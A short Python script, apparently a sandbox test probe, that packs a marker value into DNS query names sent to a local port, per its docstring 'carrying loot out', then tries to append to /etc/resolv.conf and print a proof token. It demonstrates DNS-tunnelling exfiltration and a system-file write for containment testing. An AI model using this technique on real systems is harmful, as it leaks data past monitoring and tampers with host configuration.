"""Carries its loot out in the names that it asks a name server for.

Expected: no question arrives.
"""

import contextlib
import socket
import struct


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 0xBEEF, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.sendto(question(f"{MARKER[:60]}.{MARKER[60:] or 'x'}.example.invalid"), ("127.0.0.1", DNS_PORT))
with contextlib.suppress(OSError):
    open("/etc/resolv.conf", "a").close()
    print(PROOF)


def law(x):
    return 0.0
